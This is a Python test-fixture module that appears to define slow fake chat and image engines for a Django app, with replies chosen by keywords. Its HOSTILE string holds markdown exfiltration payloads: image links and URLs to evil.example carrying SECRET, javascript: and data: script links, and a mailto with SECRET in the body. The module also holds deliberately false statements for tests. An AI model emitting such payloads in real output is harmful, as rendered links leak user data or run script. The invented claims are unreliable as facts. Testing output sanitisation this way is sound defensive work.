"""Slow fakes of chat model and painter, so that a test can stop, reload and continue; keywords select the answer."""

from __future__ import annotations

import asyncio
import re
import time
from collections.abc import AsyncGenerator, Callable
from contextlib import aclosing
from pathlib import Path
from typing import TYPE_CHECKING, Any

from django.conf import settings

from apps.engines.chat.fake import FakeChat
from apps.engines.image.fake import FakePainter
from apps.engines.image.protocol import DrawnPicture, DrawRequest, DrawStep
from apps.engines.types import ChatRequest, Delta, EngineUnavailable, Finish, ToolCall

if TYPE_CHECKING:
    from PIL.Image import Image

_WHO = (
    "The manager", "A parent", "The office", "Each colleague", "Somebody from payroll", "The works council", "A doctor",
)  # fmt: skip
_DOES = (
    "writes a letter about parental leave", "asks how the weeks are counted", "keeps a copy of the form",
    "talks about part time", "plans who stands in meanwhile", "reads the rules once more", "sends the papers back",
    "looks up what is paid", "compares it with the contract", "answers a question of the team",
)  # fmt: skip
LONG = " ".join(f"{who} {does} in good time." for does in _DOES for who in _WHO)  # 70 sentences, none twice

HOSTILE = """![stolen](https://evil.example/a.png?d=SECRET) and ![own](/conversations/?delete=1)

<img src="https://evil.example/b.png"> <https://evil.example/c?q=SECRET> [click](//evil.example/d) [ref][1]

[1]: https://evil.example/e "reference"

[script](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) https://evil.example/f www.evil.example/g

$\\href{https://evil.example/h}{x}$ and `url(https://evil.example/i)`

Leave is explained [on this page](https://known.example/leave), also at https://known.example/more. Write to
[the office](mailto:office@known.example), not to [them](mailto:office@evil.example?body=SECRET).
"""
_RESULT = re.compile(r"6 \* 7 = (\d+)")
_CALL = re.compile(r"call (\w+) (\{.*?\})")
MARKED = "in every form"
BLUSH = "blush"
DESCRIBES = "Describe this picture more fully"
THINKING = "Think first."
DOUBTFUL = "with doubts"
INVENTED = "Nothing but inventions"
DOUBTS = """## What the rules say

Pirates invented all holidays in the year 1720. Parental leave lasts up to 26 weeks [1].

Here is a list:

- The first 16 weeks of parental leave are paid in full [1].
- The moon pays for `every` holiday of the pirates.

## What nobody wrote

Dragons guard the office of the manager at night.
"""
NUMBERED = "in numbered lines"
LINES = """1. Pirates invented all holidays in the year 1720.
2. Parental leave lasts up to 26 weeks [1].
3. Dragons guard the office of the manager at night.
4. The first 16 weeks of parental leave are paid in full [1].

- By the form: U
"""
ITALIAN = "in italiano"
CONGEDO = "Il congedo dei genitori è lungo e non si paga più della metà, come dice il documento della ditta."
SOME_WORDS, SLOW_S = 80, 0.25
THOUGHT = (
    "Parents 🤔 ask 🤔 about days 🤔. It says so. Let me consider <img src=https://evil.example/z> what they ask for."
)


class PacedChat(FakeChat):
    """FakeChat at forty words per second, on a server with beam search.

    Words in a question select its answer: "in detail" a long one; "in detail, slowly" one that slows to four words per
    second; "in every form" a hostile one; "Think first." one with reasoning before it.
    """

    def __init__(self, **options: Any) -> None:
        super().__init__(**options)
        self.first_token_s, self.gap_s = 0.2, 0.025
        self.beams = 8

    def _say(self, request: ChatRequest) -> str:
        if DESCRIBES in request.messages[-1].content:
            return _described(request.messages[-1].content.rsplit("The picture: ", 1)[-1])
        if MARKED in request.messages[-1].content:
            return HOSTILE
        if INVENTED in _asked(request):
            return "The moon pays for every holiday of the pirates."
        if NUMBERED in _asked(request):
            return LINES
        if ITALIAN in _asked(request):
            return CONGEDO
        if DOUBTFUL in _asked(request):
            return DOUBTS
        if THINKING in request.messages[-1].content:
            return f"<think>{THOUGHT}</think> {super()._say(request)}"
        return LONG if "in detail" in _asked(request) else super()._say(request)

    async def stream(self, request: ChatRequest) -> AsyncGenerator[Delta | Finish, None]:
        slow, count = "in detail, slowly" in _asked(request), 0
        async with aclosing(super().stream(request)) as items:
            async for item in items:
                yield item
                count += 1
                if slow and count > SOME_WORDS:
                    await asyncio.sleep(SLOW_S)


def _asked(request: ChatRequest) -> str:
    """Return the last user message, also when an answer is being continued."""
    return next((message.content for message in reversed(request.messages) if message.role == "user"), "")


def _described(words: str) -> str:
    """Return an expanded prompt. Raises EngineUnavailable if the words mention a ghost."""
    if "ghost" in words:
        raise EngineUnavailable("The model server does not answer.")
    return f"{words}, in the soft light of the morning, painted in watercolour with fine lines."


class CallingChat(PacedChat):
    """PacedChat that takes tools: it makes the calls in the question, such as `call dates {"a": 1}`.

    Given the result of six times seven, it repeats the result.
    """

    def __init__(self, **options: Any) -> None:
        super().__init__(**options)
        self.tools = True

    def _say(self, request: ChatRequest) -> str:
        given = _RESULT.search("\n".join(message.content for message in request.messages))
        return f"The result is {given[1]}." if given else super()._say(request)

    async def stream(self, request: ChatRequest) -> AsyncGenerator[Delta | Finish, None]:
        last = request.messages[-1]
        wanted = _CALL.findall(last.content) if last.role == "user" and request.tools else []
        if wanted:
            self.calls.append(tuple(ToolCall(f"call-{at}", *found) for at, found in enumerate(wanted)))
        async with aclosing(super().stream(request)) as items:
            async for item in items:
                yield item


class PacedPainter(FakePainter):
    """Fake painter that takes 0.25 s per step, 2 s for a prompt with "slow".

    A prompt with "blushing" waits at step 2, blue, until the file BLUSH exists in the data directory; then it is red.
    """

    def __init__(self, model: str = "", **options: Any) -> None:
        super().__init__(model, **options)
        self.gap_s = 0.25

    def draw(self, request: DrawRequest, seen: Callable[[DrawStep], None]) -> DrawnPicture:
        self.gap_s = 2.0 if "slow" in request.prompt else 0.25

        def waiting(step: DrawStep) -> None:
            seen(step)
            deadline = time.monotonic() + 120
            while "blushing" in request.prompt and step.step == 2 and not _blushes() and time.monotonic() < deadline:
                time.sleep(self.gap_s)
                seen(step)  # so that a cancellation is noticed

        return super().draw(request, waiting)

    def paint(self, request: DrawRequest, step: int) -> Image:
        from PIL import Image as Pillow

        if "blushing" not in request.prompt:
            return super().paint(request, step)
        return Pillow.new("RGB", (request.width, request.height), "red" if step > 2 else "blue")


def _blushes() -> bool:
    return (Path(settings.DATA_DIR) / BLUSH).exists()
